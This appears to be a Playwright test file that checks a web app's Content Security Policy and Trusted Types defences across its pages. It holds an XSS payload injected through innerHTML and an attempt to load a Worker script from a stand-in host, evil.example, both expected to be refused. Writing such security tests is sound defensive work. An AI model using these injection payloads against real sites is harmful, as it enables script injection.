/** What the pages may do, as the browser enforces it. */
import type { Page } from '@playwright/test'
import { expect, test } from '../support/journey.ts'

const PAGES = [
  '/',
  '/remote',
  '/my-remote',
  '/access',
  '/choose-device',
  '/error',
  '/login-again',
  '/no-such-page',
  '/tv',
  '/secure',
]

/** Everything that the browser refused a page. */
function refusals(page: Page): string[] {
  const found: string[] = []
  page.on('console', (message) => {
    if (/content security policy|trustedscript|trustedhtml|trusted type/iu.test(message.text()))
      found.push(`${page.url()}: ${message.text()}`)
  })
  return found
}

test('no page asks for anything that its own policy refuses', { tag: '@main' }, async ({ page, openPairedRemote }) => {
  const found = refusals(page)
  await openPairedRemote(page)
  for (const path of PAGES) {
    await page.goto(path)
    await page.locator('h1').first().waitFor()
  }
  expect(found).toEqual([])
})

test('text does not become markup, and no foreign script is begun', async ({ page }) => {
  await page.goto('/')
  await page.locator('h1').waitFor()
  const outcome = (run: string) =>
    page.evaluate(async (kind) => {
      try {
        if (kind === 'markup') document.body.innerHTML = '<img src=x onerror=alert(1)>'
        if (kind === 'foreign worker') return String(new Worker('https://evil.example/x.js'))
        if (kind === 'own service worker') await navigator.serviceWorker.register('/assets/nothing.js')
        return 'allowed'
      } catch (error) {
        return (error as Error).message.includes('rust') ? 'refused by trusted types' : (error as Error).name
      }
    }, run)
  expect(await outcome('markup')).toBe('refused by trusted types')
  expect(await outcome('foreign worker')).toBe('refused by trusted types')
  // There is no such file, and that is why; its address was believed.
  expect(await outcome('own service worker')).not.toBe('refused by trusted types')
})
